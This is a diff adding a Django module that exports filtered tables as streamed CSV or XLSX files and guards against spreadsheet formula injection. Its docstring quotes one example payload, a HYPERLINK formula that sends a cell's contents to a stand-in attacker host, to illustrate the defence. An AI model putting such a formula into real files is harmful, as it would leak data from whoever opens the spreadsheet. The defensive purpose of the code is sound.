@@ -1,0 +1,285 @@
+"""The export layer: the registry of downloadable tables, the one CSV/XLSX writer, and the download policy.
+
+Every table is a `Table`: `build(user, data)` turns the filters of the page it comes from (the same query string)
+into a `values_list` queryset of what that user may see, and `row(values)` formats one row. Reading goes through
+`QuerySet.iterator()`, a server-side cursor on PostgreSQL: memory stays flat for fifty rows or two hundred
+thousand. `download(request, slug, fmt)` is what any view returns: up to EXPORT_DIRECT_MAX_ROWS rows the file is
+the response, above that an `ExportJob` is queued (`core.export_jobs`) and the person goes to its progress page.
+
+Each app registers its own tables from its own `exports` module, imported in its AppConfig.ready(), so the registry
+is complete at start-up. To add a table: write its `build` and `row`, and `register(Table(...))` it there.
+
+Every file is written here, and every text cell that a spreadsheet would read as a formula is written as text
+(OWASP "CSV injection"): a title like `=HYPERLINK("http://evil.example/?d="&A1,"klik")` must stay a title.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import re
+from collections.abc import Callable, Iterable, Iterator, Sequence
+from dataclasses import dataclass
+from decimal import Decimal
+from pathlib import Path
+from typing import Any, TypeGuard
+
+from django.conf import settings
+from django.db.models import QuerySet
+from django.http import Http404, HttpRequest, HttpResponse, HttpResponseBase, QueryDict, StreamingHttpResponse
+from django.shortcuts import redirect, render
+from django.utils import timezone
+from django.utils.http import url_has_allowed_host_and_scheme
+from django.utils.translation import gettext_lazy
+
+#: Rows fetched per round trip of the server-side cursor.
+CHUNK_ROWS = 2000
+FORMATS = ("csv", "xlsx")
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A plain number such as "-5.00" (a Decimal written as text) cannot run anything: it is left as it is.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
+
+
+class InvalidExport(Exception):
+    """The filters cannot be applied (a value that is not understood): nothing is exported."""
+
+    def __init__(self, messages: list[str]) -> None:
+        super().__init__("; ".join(messages))
+        self.messages = messages
+
+
+@dataclass(frozen=True)
+class Table:
+    slug: str
+    title: Any  # a lazy translation
+    filename: str
+    sheet: Any
+    headers: list[str]
+    build: Callable[[Any, QueryDict], QuerySet[Any]]
+    row: Callable[[Sequence[Any]], list[object]]
+
+    def rows(self, queryset: QuerySet[Any]) -> Iterator[list[object]]:
+        for values in queryset.iterator(chunk_size=CHUNK_ROWS):
+            yield self.row(values)
+
+
+TABLES: dict[str, Table] = {}
+
+
+def register(table: Table) -> Table:
+    TABLES[table.slug] = table
+    return table
+
+
+def parameters_from(query: QueryDict) -> dict[str, list[str]]:
+    """The filters of a request as JSON for `ExportJob.parameters` (paging and the format are not filters)."""
+    return {key: values for key, values in query.lists() if key not in ("page", "format", "export") and any(values)}
+
+
+def query_from(parameters: dict[str, list[str]]) -> QueryDict:
+    query = QueryDict(mutable=True)
+    for key, values in parameters.items():
+        query.setlist(key, values)
+    return query
+
+
+# --- helpers of the tables' `build` and `row` ---------------------------------------------------------------------
+
+
+def cell(value: object) -> object:
+    """One cell: dates as ISO text, empty for nothing, numbers kept as numbers (decimals as their exact text)."""
+    if value is None:
+        return ""
+    if isinstance(value, datetime.datetime):
+        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
+    if isinstance(value, datetime.date):
+        return value.isoformat()
+    if isinstance(value, Decimal):
+        return str(value)
+    return value
+
+
+def cells(values: Sequence[Any]) -> list[object]:
+    """The `row` of a table whose values are its columns as they are."""
+    return [cell(v) for v in values]
+
+
+def visible_choice(data: QueryDict, name: str, queryset: QuerySet[Any], message: Any) -> Any:
+    """The object a filter names by id, refused with 404 when it is outside what the person may see."""
+    wanted = data.get(name, "")
+    if not wanted:
+        return None
+    if not wanted.isdigit():
+        raise InvalidExport([str(message)])
+    found = queryset.filter(pk=int(wanted)).first()
+    if found is None:
+        raise Http404
+    return found
+
+
+def year_from(data: QueryDict) -> int | None:
+    wanted = data.get("year", "")
+    if not wanted:
+        return None
+    if not wanted.isdigit() or not 2000 <= int(wanted) <= 2100:
+        raise InvalidExport([str(gettext_lazy("The year is not understood."))])
+    return int(wanted)
+
+
+def choice_from(data: QueryDict, name: str, choices: Sequence[str], message: Any) -> str | None:
+    wanted = data.get(name, "")
+    if not wanted:
+        return None
+    if wanted not in choices:
+        raise InvalidExport([str(message)])
+    return wanted
+
+
+def filter_errors(form: Any) -> list[str]:
+    return [f"{form.fields[name].label}: {' '.join(errors)}" for name, errors in form.errors.items()]
+
+
+# --- the writer ---------------------------------------------------------------------------------------------------
+
+
+def is_formula_like(value: object) -> TypeGuard[str]:
+    return isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value)
+
+
+def csv_cell(value: object) -> object:
+    # The quote makes a spreadsheet show the text as it is; it is the prefix OWASP recommends.
+    return f"'{value}" if is_formula_like(value) else value
+
+
+class _Echo:
+    def write(self, value: str) -> str:
+        return value
+
+
+def _csv_lines(headers: Sequence[object], rows: Iterable[Iterable[object]], handle: Any) -> Iterator[Any]:
+    writer = csv.writer(handle)
+    yield writer.writerow([csv_cell(v) for v in headers])
+    for row in rows:
+        yield writer.writerow([csv_cell(v) for v in row])
+
+
+def _xlsx_book(headers: Sequence[object], rows: Iterable[Iterable[object]], sheet: str) -> Any:
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    book = Workbook(write_only=True)
+    worksheet = book.create_sheet(str(sheet)[:31])
+
+    def line(values: Iterable[object]) -> list[object]:
+        out: list[object] = []
+        for value in values:
+            if is_formula_like(value):
+                text = WriteOnlyCell(worksheet, value=value)
+                # openpyxl makes any text starting with "=" a formula; a string cell is shown exactly as written,
+                # and the quote prefix keeps it text when someone edits it in Excel.
+                text.data_type = "s"
+                text.quotePrefix = True
+                out.append(text)
+            else:
+                out.append(value)
+        return out
+
+    worksheet.append(line(headers))
+    for row in rows:
+        worksheet.append(line(row))
+    return book
+
+
+def csv_response(headers: Sequence[object], rows: Iterable[Iterable[object]], filename: str) -> StreamingHttpResponse:
+    """A streamed CSV download (UTF-8 with a BOM, so that Excel shows the characters right)."""
+
+    def stream() -> Iterator[str]:
+        yield "\ufeff"
+        yield from _csv_lines(headers, rows, _Echo())
+
+    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
+    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
+    return response
+
+
+def xlsx_response(
+    headers: Sequence[object], rows: Iterable[Iterable[object]], filename: str, sheet: str
+) -> HttpResponse:
+    data = io.BytesIO()
+    _xlsx_book(headers, rows, sheet).save(data)
+    response = HttpResponse(data.getvalue(), content_type=XLSX_CONTENT_TYPE)
+    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
+    return response
+
+
+def write_file(
+    path: Path, *, table: Table, queryset: QuerySet[Any], fmt: str, progress: Callable[[int], None], every: int
+) -> int:
+    """Write every row to `path` (CSV with a BOM for Excel, or XLSX in write-only mode); return the row count.
+
+    `progress(rows_written)` is called every `every` rows. Neither format keeps the rows in memory.
+    """
+    written = 0
+
+    def counted(rows: Iterable[list[object]]) -> Iterator[list[object]]:
+        nonlocal written
+        for row in rows:
+            yield row
+            written += 1
+            if written % every == 0:
+                progress(written)
+
+    if fmt == "csv":
+        with path.open("w", encoding="utf-8-sig", newline="") as handle:
+            # csv.writer writes to the file itself: the lines only need to be pulled through.
+            for _line in _csv_lines(table.headers, counted(table.rows(queryset)), handle):
+                pass
+        return written
+    _xlsx_book(table.headers, counted(table.rows(queryset)), str(table.sheet)).save(path)
+    return written
+
+
+# --- the policy: one way to download a table, from any page -------------------------------------------------------
+
+
+def file_name(table: Table) -> str:
+    return f"{table.filename}-{timezone.localdate():%Y%m%d}"
+
+
+def download(request: HttpRequest, slug: str, fmt: str) -> HttpResponseBase:
+    """The download of table `slug` with the request's filters (its query string), as a view's response.
+
+    Up to EXPORT_DIRECT_MAX_ROWS rows the file is the response; above that a background job is queued and the
+    person is taken to its progress page. Filters that are not understood give a page saying so (400); a table
+    that does not exist, or an agency out of the person's sight, 404.
+    """
+    table = TABLES.get(slug)
+    if table is None:
+        raise Http404
+    if fmt not in FORMATS:
+        return invalid(request, [])
+    parameters = parameters_from(request.GET)
+    try:
+        queryset = table.build(request.user, query_from(parameters))
+    except InvalidExport as exc:
+        return invalid(request, exc.messages)
+    total = queryset.count()
+    if total <= settings.EXPORT_DIRECT_MAX_ROWS:
+        if fmt == "csv":
+            return csv_response(table.headers, table.rows(queryset), file_name(table))
+        return xlsx_response(table.headers, table.rows(queryset), file_name(table), sheet=str(table.sheet))
+    # Imported here: the job services import this module.
+    from core.export_jobs import export_start
+
+    job = export_start(owner=request.user, table=table, fmt=fmt, parameters=parameters, estimate=total)
+    return redirect("exports:detail", token=job.token)
+
+
+def invalid(request: HttpRequest, errors: list[str]) -> HttpResponse:
+    referer = request.META.get("HTTP_REFERER", "")
+    safe = url_has_allowed_host_and_scheme(referer, {request.get_host()}, require_https=request.is_secure())
+    return render(request, "core/export_invalid.html", {"errors": errors, "back": referer if safe else ""}, status=400)
